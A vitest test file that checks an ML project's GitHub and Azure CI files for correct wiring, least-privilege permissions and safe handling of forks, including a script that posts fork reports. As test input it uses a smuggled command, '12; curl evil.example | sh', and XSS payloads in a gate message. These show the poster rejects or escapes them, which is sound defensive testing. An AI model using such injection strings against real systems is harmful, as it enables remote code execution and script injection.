/**
 * The churn example's CI: its GitHub workflows (.github/workflows/*.yml) and Azure pipelines
 * (azure-pipelines*.yml) parse, give every mlgate task only inputs it has, read only outputs the
 * tasks set, wire each stage's outputs into the next, hold least-privilege permissions, keep a
 * fork's code away from credentials, and post a fork's report the way mlgate posts its own. The
 * checker itself is shown to catch a wrong input, a wrong output reference and a wrong wiring.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseDocument } from "yaml";
import type { Verdict } from "../../src/core/evaluate/verdict.js";
import { stickyMarker } from "../../src/core/report/comment.js";
import type { verdictReportJson } from "../../src/tasks/evaluate-against-champion.report.js";
import { checkAzurePipelines, type PipelineFile } from "./workflow-azure.js";
import { type Catalog, EXAMPLE, loadCatalog } from "./workflow-catalog.js";
import { checkGitHubWorkflows, type WorkflowFile } from "./workflow-github.js";
import { list, names, node, text } from "./workflow-yaml.js";

const WORKFLOWS = ".github/workflows";

interface Source {
  file: string;
  doc: unknown;
  /** YAML errors and warnings (a duplicate key is an error): the file must have none */
  errors: string[];
}

function readFiles(names: readonly string[]): Source[] {
  return names.map((file) => {
    const parsed = parseDocument(readFileSync(path.join(EXAMPLE, file), "utf8"), { uniqueKeys: true });
    const errors = [...parsed.errors, ...parsed.warnings].map((error) => error.message);
    return { file, doc: errors.length === 0 ? parsed.toJS() : {}, errors };
  });
}

const workflowSources = readFiles(
  readdirSync(path.join(EXAMPLE, WORKFLOWS))
    .filter((name) => /\.ya?ml$/.test(name))
    .sort()
    .map((name) => `${WORKFLOWS}/${name}`),
);
const pipelineSources = readFiles(
  readdirSync(EXAMPLE)
    .filter((name) => /^azure-pipelines.*\.ya?ml$/.test(name))
    .sort(),
);
const workflows: WorkflowFile[] = workflowSources.map(({ file, doc }) => ({ file, doc }));
const pipelines: PipelineFile[] = pipelineSources.map(({ file, doc }) => ({ file, doc }));

function workflow(file: string): Record<string, unknown> {
  const found = workflows.find((each) => each.file === `${WORKFLOWS}/${file}`);
  if (!found) throw new Error(`no workflow ${file}`);
  return node(found.doc);
}

/** Every step of a GitHub job or an Azure job (deployment jobs included), flattened. */
function stepsOf(job: unknown): Record<string, unknown>[] {
  const jobNode = node(job);
  const fromStrategy = Object.values(node(node(jobNode.strategy).runOnce)).flatMap((hook) => list(node(hook).steps));
  return [...list(jobNode.steps), ...fromStrategy].map(node);
}

function usesIn(job: unknown): string[] {
  return stepsOf(job).map((step) => text(step.uses) ?? text(step.task) ?? "");
}

/** A GitHub expression, `${{ inner }}`. */
function expr(inner: string): string {
  return `\${{ ${inner} }}`;
}

/** A deep copy to break on purpose. */
function copy<T>(value: T): T {
  return structuredClone(value);
}

describe("the churn example's CI", () => {
  let catalog: Catalog;
  beforeAll(async () => {
    catalog = await loadCatalog();
  });

  it("has GitHub workflows and Azure pipelines, and every file is valid YAML without duplicate keys", () => {
    expect(workflowSources.map(({ file }) => path.basename(file))).toEqual([
      "drift.yml",
      "pull-request-comment.yml",
      "pull-request.yml",
      "release.yml",
    ]);
    expect(pipelineSources.map(({ file }) => file)).toEqual(["azure-pipelines-drift.yml", "azure-pipelines.yml"]);
    for (const { file, errors } of [...workflowSources, ...pipelineSources]) expect(errors, file).toEqual([]);
  });

  it("GitHub: every mlgate step's inputs, every output it reads, the wiring, the permissions and the fork path check out", () => {
    expect(checkGitHubWorkflows(workflows, catalog, EXAMPLE)).toEqual([]);
  });

  it("Azure Pipelines: every mlgate task's inputs, every output variable read across stages, the wiring, the service connection and the drift trigger check out", () => {
    expect(checkAzurePipelines(pipelines, catalog, EXAMPLE)).toEqual([]);
  });

  it("GitHub: PR → validate, train, evaluate; main → evaluate, register, deploy behind an environment; schedule → drift → retrain", () => {
    const pullRequest = workflow("pull-request.yml");
    expect(names(node(node(pullRequest.on).pull_request).paths)).toEqual(
      expect.arrayContaining(["data/**", "train.py", "params.yml"]),
    );
    const prJobs = node(pullRequest.jobs);
    expect(usesIn(prJobs.validate)).toContain("mlgate/mlgate/actions/validate-data@v0");
    for (const job of ["evaluate", "evaluate-fork"]) {
      expect(usesIn(prJobs[job])).toEqual(
        expect.arrayContaining([
          "mlgate/mlgate/actions/train@v0",
          "mlgate/mlgate/actions/evaluate-against-champion@v0",
        ]),
      );
      expect(node(prJobs[job]).needs).toBe("validate");
    }
    // the fork's job holds nothing: no OIDC, no write scope, no Azure login
    expect(node(prJobs["evaluate-fork"]).permissions).toEqual({ contents: "read" });
    expect(usesIn(prJobs["evaluate-fork"])).not.toContain("azure/login@v2");

    const release = workflow("release.yml");
    expect(node(node(release.on).push).branches).toEqual(["main"]);
    expect(node(node(release.on).repository_dispatch).types).toEqual(["retrain"]);
    const releaseJobs = node(release.jobs);
    expect(usesIn(releaseJobs.candidate)).toEqual(
      expect.arrayContaining([
        "mlgate/mlgate/actions/train@v0",
        "mlgate/mlgate/actions/evaluate-against-champion@v0",
        "mlgate/mlgate/actions/register@v0",
      ]),
    );
    const deploy = node(releaseJobs.deploy);
    expect(deploy.environment).toBe("production");
    expect(deploy.needs).toBe("candidate");
    expect(usesIn(deploy)).toContain("mlgate/mlgate/actions/deploy@v0");

    const drift = workflow("drift.yml");
    expect(list(node(drift.on).schedule)).toHaveLength(1);
    const monitor = stepsOf(node(drift.jobs).monitor).find((step) => text(step.uses)?.includes("monitor-drift"));
    expect(node(monitor?.with).trigger).toBe("github:repository_dispatch:retrain");

    const poster = workflow("pull-request-comment.yml");
    expect(node(node(poster.on).workflow_run).workflows).toEqual([pullRequest.name]);
  });

  it("Azure Pipelines: Validate → Train → Evaluate → Register → Deploy (an environment's approval), a PR trigger and a drift schedule", () => {
    const main = node(pipelines.find((each) => each.file === "azure-pipelines.yml")?.doc);
    expect(list(main.stages).map((stage) => node(stage).stage)).toEqual([
      "Validate",
      "Train",
      "Evaluate",
      "Register",
      "Deploy",
      "ForkCheck",
    ]);
    expect(node(main.pr).branches).toEqual({ include: ["main"] });
    const deployStage = node(list(main.stages).find((stage) => node(stage).stage === "Deploy"));
    const deployJob = node(list(deployStage.jobs)[0]);
    expect(deployJob.deployment).toBe("deploy");
    expect(deployJob.environment).toBe("churn-production");
    expect(usesIn(deployJob)).toContain("MlgateDeploy@0");

    const drift = node(pipelines.find((each) => each.file === "azure-pipelines-drift.yml")?.doc);
    expect(drift.trigger).toBe("none");
    expect(list(drift.schedules)).toHaveLength(1);
    expect(list(drift.jobs).flatMap(usesIn)).toContain("MlgateMonitorDrift@0");
  });

  describe("the fork report poster (pull-request-comment.yml), run on a report as mlgate writes it", () => {
    const poster = stepsOf(node(workflow("pull-request-comment.yml").jobs).comment).find((step) =>
      text(step.uses)?.startsWith("actions/github-script@"),
    );
    const script = text(node(poster?.with).script);
    const headSha = "1111111111111111111111111111111111111111";
    let dir: string;
    beforeAll(() => {
      dir = mkdtempSync(path.join(os.tmpdir(), "mlgate-poster-"));
    });
    afterAll(() => rmSync(dir, { recursive: true, force: true }));

    function writeArtifact(pullRequest: string, report: unknown): void {
      writeFileSync(path.join(dir, "pull-request-number"), `${pullRequest}\n`);
      writeFileSync(path.join(dir, "evaluate.json"), JSON.stringify(report));
    }

    async function post(
      options: { head?: string; comments?: { id: number; body: string; user: { login: string } }[] } = {},
    ) {
      const created: { issue_number: number; body: string }[] = [];
      const updated: { comment_id: number; body: string }[] = [];
      const notices: string[] = [];
      const asked: number[] = [];
      const github = {
        rest: {
          pulls: {
            get: async (params: { pull_number: number }) => {
              asked.push(params.pull_number);
              return { data: { head: { sha: options.head ?? headSha } } };
            },
          },
          issues: {
            listComments: async () => ({ data: options.comments ?? [] }),
            createComment: async (params: { issue_number: number; body: string }) => void created.push(params),
            updateComment: async (params: { comment_id: number; body: string }) => void updated.push(params),
          },
        },
        paginate: async () => options.comments ?? [],
      };
      const context = {
        repo: { owner: "acme", repo: "churn" },
        payload: { workflow_run: { head_sha: headSha, html_url: "https://github.com/acme/churn/actions/runs/7" } },
      };
      const core = { notice: (message: string) => void notices.push(message) };
      // github-script runs `script` as the body of an async function of these
      const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor as new (
        ...args: string[]
      ) => (...values: unknown[]) => Promise<unknown>;
      const saved = process.env.REPORT_DIR;
      process.env.REPORT_DIR = dir;
      try {
        await new AsyncFunction("require", "github", "context", "core", script ?? "")(
          createRequire(import.meta.url),
          github,
          context,
          core,
        );
      } finally {
        if (saved === undefined) delete process.env.REPORT_DIR;
        else process.env.REPORT_DIR = saved;
      }
      return { created, updated, notices, asked };
    }

    it("creates mlgate's sticky comment (same marker), with the verdict, metrics and gates, every text escaped", async () => {
      expect(script).toBeDefined();
      writeArtifact("12", forkReport());
      const { created, updated, asked } = await post();
      expect(asked).toEqual([12]);
      expect(updated).toEqual([]);
      expect(created).toHaveLength(1);
      const body = created[0]?.body ?? "";
      expect(created[0]?.issue_number).toBe(12);
      expect(body.split("\n")[0]).toBe(stickyMarker("evaluate-against-champion:churn"));
      expect(body).toContain("✅ promote");
      expect(body).toContain("| roc&#95;auc | 0.8123 | 0.7900 … 0.8300 |");
      expect(body).toContain("✅ pass");
      // the fork wrote the gate text: no mention, no markup, no link survives
      expect(body).not.toMatch(/@octocat|<img|\]\(javascript/);
      expect(body).toContain("&#64;octocat");
    });

    it("updates the bot's existing comment and leaves a person's comment with the same marker alone", async () => {
      writeArtifact("12", forkReport());
      const marker = stickyMarker("evaluate-against-champion:churn");
      const { created, updated } = await post({
        comments: [
          { id: 1, body: `${marker}\nspoofed`, user: { login: "mallory" } },
          { id: 2, body: `${marker}\nold verdict`, user: { login: "github-actions[bot]" } },
        ],
      });
      expect(created).toEqual([]);
      expect(updated.map((each) => each.comment_id)).toEqual([2]);
    });

    it("does not comment when the pull request has moved on, and refuses an artifact that names no pull request", async () => {
      writeArtifact("12", forkReport());
      const moved = await post({ head: "2222222222222222222222222222222222222222" });
      expect(moved.created).toEqual([]);
      expect(moved.notices[0]).toMatch(/not commenting/);

      writeArtifact("12; curl evil.example | sh", forkReport());
      await expect(post()).rejects.toThrow(/names no pull request/);
      writeArtifact("12", { format: "something else" });
      await expect(post()).rejects.toThrow(/not an mlgate evaluate report/);
    });
  });

  describe("the checker catches broken workflows", () => {
    const release = () => copy(workflow("release.yml"));
    const check = (doc: unknown) => checkGitHubWorkflows([{ file: "broken.yml", doc }], catalog, EXAMPLE);
    const stepOf = (doc: Record<string, unknown>, job: string, id: string) =>
      node(stepsOf(node(doc.jobs)[job]).find((step) => step.id === id));

    it("an input the task does not have", () => {
      const doc = release();
      const evaluate = stepOf(doc, "candidate", "evaluate");
      const inputs = node(evaluate.with);
      inputs.chalenger = inputs.challenger;
      delete inputs.challenger;
      expect(check(doc)).toEqual([
        expect.stringMatching(/candidate › step \d+ \(evaluate\): evaluate-against-champion has no input 'chalenger'/),
        expect.stringMatching(/evaluate-against-champion needs input 'challenger'/),
      ]);
    });

    it("a step output the task does not set, and a job output nobody declared", () => {
      const doc = release();
      node(stepOf(doc, "candidate", "register").with).run = expr("steps.train.outputs.run_id");
      node(stepOf(doc, "deploy", "deploy").with).verdict = expr("needs.candidate.outputs.verdict_id");
      const problems = check(doc);
      expect(problems).toContainEqual(
        expect.stringMatching(/\(register\) › with\.run: train \(step 'train'\) has no output 'run_id'/),
      );
      expect(problems).toContainEqual(
        expect.stringMatching(/\(deploy\) › with\.verdict: job 'candidate' declares no output 'verdict_id'/),
      );
    });

    it("an output fed to the wrong input: deploy's verdict from the verdict's decision instead of its id", () => {
      const doc = release();
      node(node(doc.jobs).candidate).outputs = {
        ...node(node(node(doc.jobs).candidate).outputs),
        "verdict-id": expr("steps.evaluate.outputs.verdict"),
      };
      expect(check(doc)).toEqual([
        expect.stringMatching(
          /\(deploy\): input 'verdict' is fed evaluate-against-champion\.verdict; it takes evaluate-against-champion\.verdict-id/,
        ),
      ]);
    });

    it("a step reading an output of a later step, and a job reading a job it does not need", () => {
      const doc = release();
      node(stepOf(doc, "candidate", "train").with).name = expr("steps.register.outputs.version");
      node(node(doc.jobs).deploy).needs = "validate";
      const problems = check(doc);
      expect(problems).toContainEqual(
        expect.stringMatching(/\(train\) › with\.name: no earlier step has id 'register'/),
      );
      expect(problems).toContainEqual(
        expect.stringMatching(/jobs\.deploy › if: reads needs\.candidate, but the job does not list 'candidate'/),
      );
    });

    it("broad permissions, a stored secret, and OIDC in a job a fork can run", () => {
      const doc = copy(workflow("pull-request.yml"));
      const fork = node(node(doc.jobs)["evaluate-fork"]);
      fork.permissions = { contents: "read", "id-token": "write", "pull-requests": "write" };
      node(stepOf(doc, "evaluate-fork", "train").with).registry = expr("env.REGISTRY");
      node(stepOf(doc, "evaluate-fork", "train").with).env = `TOKEN=${expr("secrets.PAT")}`;
      const problems = check(doc);
      expect(problems).toEqual(
        expect.arrayContaining([
          expect.stringMatching(/evaluate-fork › permissions: 'id-token: write' is more than the job needs/),
          expect.stringMatching(/evaluate-fork › permissions: 'pull-requests: write' is more than the job needs/),
          expect.stringMatching(/reads a stored secret/),
          expect.stringMatching(
            /evaluate-fork › step \d+ \(train\): a fork's code runs in this job, so its registry must be a local folder/,
          ),
          expect.stringMatching(/evaluate-fork: a fork's pull request can run this job; OIDC belongs in jobs with if:/),
        ]),
      );
    });

    it("a deploy without an environment, and a poster that checks out the pull request", () => {
      const doc = release();
      delete node(node(doc.jobs).deploy).environment;
      const poster = copy(workflow("pull-request-comment.yml"));
      const comment = node(node(poster.jobs).comment);
      comment.steps = [{ uses: "actions/checkout@v4" }, ...list(comment.steps)];
      const problems = checkGitHubWorkflows(
        [
          { file: "release.yml", doc },
          { file: "pull-request.yml", doc: workflow("pull-request.yml") },
          { file: "pull-request-comment.yml", doc: poster },
        ],
        catalog,
        EXAMPLE,
      );
      expect(problems).toEqual(
        expect.arrayContaining([
          expect.stringMatching(/release\.yml › jobs\.deploy: deploys without an environment/),
          expect.stringMatching(/pull-request-comment\.yml › jobs\.comment › step 1 .*must not check out/),
        ]),
      );
    });

    it("Azure: an input by its GitHub name, and an output variable of a stage that is not a dependency", () => {
      const doc = copy(node(pipelines.find((each) => each.file === "azure-pipelines.yml")?.doc));
      const stage = (name: string) => node(list(doc.stages).find((each) => node(each).stage === name));
      const evaluateStep = node(stepsOf(list(stage("Evaluate").jobs)[0]).find((step) => step.name === "evaluate"));
      node(evaluateStep.inputs)["champion-alias"] = "production";
      const deploy = stage("Deploy");
      deploy.dependsOn = ["Register"];
      const deployJob = node(list(deploy.jobs)[0]);
      node(deployJob.variables).registeredVersion =
        "$[ stageDependencies.Register.register.outputs['register.versionId'] ]";
      const problems = checkAzurePipelines([{ file: "azure-pipelines.yml", doc }], catalog, EXAMPLE);
      expect(problems).toEqual(
        expect.arrayContaining([
          expect.stringMatching(
            /stage Evaluate › job gate › step \d+ \(evaluate\): MlgateEvaluateAgainstChampion has no input 'champion-alias'/,
          ),
          expect.stringMatching(
            /stage Deploy › job deploy › variables\.verdictId: stage 'Deploy' does not depend on 'Evaluate'/,
          ),
          expect.stringMatching(/variables\.registeredVersion: step 'register' sets no output variable 'versionId'/),
          expect.stringMatching(/stage Deploy › condition: stage 'Deploy' does not depend on 'Evaluate'/),
        ]),
      );
    });

    it("a required input left to an mlgate.yml that does not set it", async () => {
      const bare = await loadCatalog({ config: null });
      const doc = release();
      // label comes from the example's mlgate.yml; without it, the step is missing an input
      expect(checkGitHubWorkflows([{ file: "release.yml", doc }], bare, EXAMPLE)).toContainEqual(
        expect.stringMatching(/\(evaluate\): evaluate-against-champion needs input 'label' \(or mlgate\.yml\)/),
      );
    });
  });
});

/** An evaluate report as evaluate-against-champion writes it (report-json), from a fork: first run, absolute gates. */
function forkReport(): ReturnType<typeof verdictReportJson> {
  const estimate = (value: number, low: number, high: number) => ({
    value,
    low,
    high,
    standardError: 0.01,
    replicates: 1000,
    excluded: 0,
  });
  const verdict: Verdict = {
    schema: "mlgate.verdict/1",
    id: "20261125T030000Z-0123456789ab",
    decision: "promote",
    firstRun: true,
    model: "churn",
    challenger: { label: "model.onnx", digest: "sha256:00", bytes: 1843 },
    champion: null,
    data: {
      digest: "sha256:11",
      rows: 2000,
      sources: [{ name: "data/holdout.csv", digest: "sha256:11", bytes: 9, rows: 2000 }],
    },
    problem: "binary",
    primary: "roc_auc",
    classes: ["no", "yes"],
    metrics: {
      roc_auc: { challenger: estimate(0.8123, 0.79, 0.83) },
      log_loss: { challenger: estimate(0.41, 0.39, 0.43) },
    },
    bootstrap: { replicates: 1000, seed: 0, confidence: 0.95, resampled: "rows", units: 2000 },
    slices: [],
    operational: { challenger: { loadMs: 3, latencyP95Ms: 1, batches: 1 }, batchSize: 10000 },
    gates: [
      {
        gate: "roc_auc.min",
        metric: "roc_auc",
        status: "pass",
        observed: 0.8123,
        bar: 0.65,
        text: "ROC AUC 0.8123 ≥ 0.65 — thanks @octocat <img src=x onerror=alert(1)> [win](javascript:alert(1))",
      },
    ],
    lineage: {
      host: "github",
      mlgateVersion: "0.1.0",
      task: "evaluate-against-champion",
      inputDigests: {},
      startedAt: "2026-11-25T03:00:00.000Z",
    },
  };
  return { format: "mlgate.evaluate-report", version: 1, verdict, timings: { totalMs: 120 } };
}
